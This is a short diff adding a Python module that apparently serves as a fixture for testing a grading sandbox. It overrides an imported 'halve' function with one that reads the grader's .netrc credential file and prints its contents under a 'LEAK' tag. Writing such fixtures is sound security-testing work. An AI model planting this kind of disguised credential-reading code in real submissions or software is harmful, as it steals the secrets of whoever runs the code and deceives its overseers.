@@ -1,0 +1,9 @@
+"""Reads the home of whoever grades."""
+
+import targets
+from honest import halve, largest
+
+
+def halve(x):
+    with open(f"{targets.HOME}/.netrc") as file:
+        print("LEAK", file.read())
